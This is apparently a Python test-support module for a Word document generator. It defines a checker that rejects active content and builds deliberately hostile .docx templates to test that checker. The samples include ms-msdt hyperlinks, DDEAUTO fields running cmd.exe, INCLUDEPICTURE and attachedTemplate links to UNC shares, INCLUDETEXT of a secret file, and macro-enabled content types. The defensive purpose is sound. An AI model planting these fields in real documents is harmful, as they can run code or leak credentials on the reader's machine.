"""Hostile brand templates, made from ours by editing its XML, and the byte check
(`active_content`) every .docx the generator writes must pass.

The check knows its allow-list on its own (it does not import the generator's), so a
field, setting or content type let through by a change to the generator fails here.
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

from lxml import etree

ROOT = Path(__file__).resolve().parents[1]
REFERENCE = ROOT / "templates" / "reference.docx"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
DOCUMENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

FIELDS = {"PAGE", "NUMPAGES", "SECTIONPAGES", "STYLEREF", "TITLE", "SUBJECT", "AUTHOR",
          "DOCPROPERTY", "TOC", "PAGEREF"}
"""Every field a client document may hold: the header's page numbers and properties, and
the contents page the generator writes (TOC, PAGEREF)."""
LINK_SCHEMES = ("http:", "https:", "mailto:", "tel:")
"""External relationships a document may hold (tel: as the README allows in text)."""
NEVER = ("mailMerge", "attachedTemplate", "docVars", "dataBinding", "altChunk", "OLEObject")
"""Elements no part of a client document holds."""
FORBIDDEN_TYPES = re.compile(r"template|macroEnabled|vbaProject|vbaData|activeX|oleObject",
                             re.IGNORECASE)


def _w(tag: str) -> str:
    return f"{{{W_NS}}}{tag}"


def field_instructions(root: etree._Element) -> list[str]:
    """Every field instruction in a part: simple fields, and complex fields (nested ones
    each on their own), deleted ones (a redline's) included."""
    found: list[str] = []
    open_: list[list[str]] = []
    for el in root.iter(_w("fldSimple"), _w("fldChar"), _w("instrText"), _w("delInstrText")):
        if el.tag == _w("fldSimple"):
            found.append(el.get(_w("instr"), ""))
        elif el.tag != _w("fldChar"):
            if not open_:
                found.append(el.text or "")  # a code outside any field: judged all the same
            else:
                open_[-1].append(el.text or "")
        elif el.get(_w("fldCharType")) == "begin":
            open_.append([])
        elif open_ and el.get(_w("fldCharType")) == "end":
            found.append("".join(open_.pop()))
    found += ["".join(left) for left in open_]
    return found


def active_content(data: bytes) -> list[str]:
    """What a client document must never hold, one line each; [] when it is clean."""
    problems: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    types = etree.fromstring(parts["[Content_Types].xml"])
    for node in types:
        if FORBIDDEN_TYPES.search(node.get("ContentType", "")):
            problems.append(f"content type {node.get('ContentType')} "
                            f"({node.get('PartName') or node.get('Extension')})")
    main = [n for n in types if n.get("PartName") == "/word/document.xml"]
    if not main or main[0].get("ContentType") != DOCUMENT_TYPE:
        problems.append("the main part is not typed as a document")
    for name, content in parts.items():
        if "vba" in name.lower() or name.lower().endswith((".bin", ".docm", ".dotm")):
            problems.append(f"part {name}")
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(content)
        if name.endswith(".rels"):
            problems += [f"{name}: external link {rel.get('Target')!r}" for rel in root
                         if rel.get("TargetMode") == "External"
                         and not rel.get("Target", "").lower().startswith(LINK_SCHEMES)]
            continue
        for instruction in field_instructions(root):
            words = instruction.split()
            if not words or words[0].upper() not in FIELDS:
                problems.append(f"{name}: field {instruction.strip()!r}")
        problems += [f"{name}: {etree.QName(el).localname}" for el in root.iter()
                     if isinstance(el.tag, str) and etree.QName(el).localname in NEVER]
    return problems


# -------------------------------------------------------------------- hostile templates

def _insert(part: str, before: str, xml: str) -> Callable[[dict[str, bytes]], None]:
    def edit(parts: dict[str, bytes]) -> None:
        text = parts[part].decode()
        assert before in text, f"{before!r} not in {part}"
        parts[part] = text.replace(before, xml + before, 1).encode()
    return edit


def _complex(instruction: str, shown: str) -> str:
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


def _header_paragraph(runs: str) -> Callable[[dict[str, bytes]], None]:
    return _insert("word/header1.xml", "</w:hdr>", f"<w:p>{runs}</w:p>")


HOSTILE_FIELDS = {
    "hyperlink-ms-msdt": ('<w:fldSimple w:instr=\' HYPERLINK "ms-msdt:/id PCWDiagnostic '
                          '/skip force" \'><w:r><w:t>SHOWN-msdt</w:t></w:r></w:fldSimple>'),
    "ddeauto": _complex(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', "SHOWN-dde"),
    "includepicture-unc": _complex(' INCLUDEPICTURE "\\\\\\\\host\\\\share\\\\x.png" \\d ',
                                   "SHOWN-picture"),
    "includetext": _complex(' INCLUDETEXT "C:\\\\secret.txt" ', "SHOWN-include"),
    "filename": '<w:fldSimple w:instr=" FILENAME \\p "><w:r><w:t>SHOWN-name</w:t></w:r>'
                '</w:fldSimple>',
    "nested-in-page": ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                       ' IF </w:instrText></w:r>' + _complex(" DDE x y ", "1")
                       + '<w:r><w:instrText> = 1 "a" "b" </w:instrText></w:r><w:r><w:fldChar '
                       'w:fldCharType="separate"/></w:r><w:r><w:t>SHOWN-if</w:t></w:r><w:r>'
                       '<w:fldChar w:fldCharType="end"/></w:r>'),
    "lowercase-split": ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                        ' dde</w:instrText></w:r><w:r><w:instrText>auto x </w:instrText></w:r>'
                        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>SHOWN-split'
                        '</w:t></w:r>'),
}
"""Fields a header may not hold: each keeps the text it shows (SHOWN-...), never its code."""

_SETTINGS_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas'
                  '.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                  'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                  'attachedTemplate" Target="file:///\\\\host\\share\\Normal.dotm" '
                  'TargetMode="External"/></Relationships>')
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def _settings(parts: dict[str, bytes]) -> None:
    _insert("word/settings.xml", "<w:defaultTabStop", (
        f'<w:attachedTemplate {_R} r:id="rId1"/><w:mailMerge><w:mainDocumentType '
        'w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString '
        'w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\host\\share\\x.xlsx"/>'
        '<w:query w:val="SELECT * FROM x"/></w:mailMerge>'))(parts)
    _insert("word/settings.xml", "</w:settings>",
            '<w:docVars><w:docVar w:name="secret" w:val="SECRET-VAR"/></w:docVars>')(parts)
    parts["word/_rels/settings.xml.rels"] = _SETTINGS_RELS.encode()


def _main_type(content_type: str, macro: bool) -> Callable[[dict[str, bytes]], None]:
    def edit(parts: dict[str, bytes]) -> None:
        types = parts["[Content_Types].xml"].decode().replace(DOCUMENT_TYPE, content_type)
        if macro:
            types = types.replace('<Default Extension="xml"', '<Default Extension="bin" '
                                  'ContentType="application/vnd.ms-office.vbaProject"/>'
                                  '<Default Extension="xml"')
            _insert("word/_rels/document.xml.rels", "</Relationships>", (
                '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/'
                'relationships/vbaProject" Target="vbaProject.bin"/>'))(parts)
            parts["word/vbaProject.bin"] = b"VBA-PROJECT-MARKER"
        parts["[Content_Types].xml"] = types.encode()
    return edit


_V = ('xmlns:v="urn:schemas-microsoft-com:vml" '
      'xmlns:o="urn:schemas-microsoft-com:office:office"')
HOSTILE_ELEMENTS = (
    f'<w:r><w:object><v:shape {_V} id="x" href="ms-msdt:/id x"/><o:OLEObject {_V} '
    'Type="Link" ProgID="Word.Document" ShapeID="x"/></w:object></w:r>'
    f'<w:r><w:pict><v:shape {_V} id="y" href="ms-msdt:/id y" o:href="\\\\host\\y.png">'
    '<v:textbox><w:txbxContent><w:p><w:fldSimple w:instr=" INCLUDETEXT x "><w:r><w:t>'
    'SHOWN-box</w:t></w:r></w:fldSimple></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>'
    '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{00000000-0000-0000-0000-'
    '000000000000}"/></w:sdtPr><w:sdtContent><w:r><w:t>SHOWN-control</w:t></w:r>'
    '</w:sdtContent></w:sdt><w:smartTag w:element="x"><w:r><w:t>SHOWN-tag</w:t></w:r>'
    '</w:smartTag>')
"""An embedded object, a shape linking out, a content control bound to data, a smart tag."""

HOSTILE: dict[str, Callable[[dict[str, bytes]], None]] = {
    **{f"field-{name}": _header_paragraph(runs) for name, runs in HOSTILE_FIELDS.items()},
    "settings": _settings,
    "dotx": _main_type("application/vnd.openxmlformats-officedocument.wordprocessingml."
                       "template.main+xml", macro=False),
    "docm": _main_type("application/vnd.ms-word.document.macroEnabled.main+xml", macro=True),
    "dotm": _main_type("application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
                       macro=True),
    "header-elements": _header_paragraph(HOSTILE_ELEMENTS),
    "altchunk": _insert("word/footer1.xml", "</w:ftr>", f'<w:altChunk {_R} r:id="rId7"/>'),
}
"""Brand templates that load, with something no client document may carry."""


def all_hostile(parts: dict[str, bytes]) -> None:
    """Every hostile edit at once: one template a whole build runs with."""
    for name, edit in HOSTILE.items():
        if name not in ("dotx", "dotm"):  # one main content type at a time: the .docm one
            edit(parts)


def template_with(target: Path, *edits: Callable[[dict[str, bytes]], None]) -> Path:
    """Our brand template with `edits` applied to its parts, written to `target`."""
    with zipfile.ZipFile(REFERENCE) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for edit in edits:
        edit(parts)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target


def pandoc_reference(target: Path) -> Path | None:
    """pandoc's own reference.docx, written to `target`; None without pandoc."""
    if shutil.which("pandoc") is None:
        return None
    target.write_bytes(subprocess.run(["pandoc", "--print-default-data-file", "reference.docx"],
                                      capture_output=True, check=True, timeout=60).stdout)
    return target
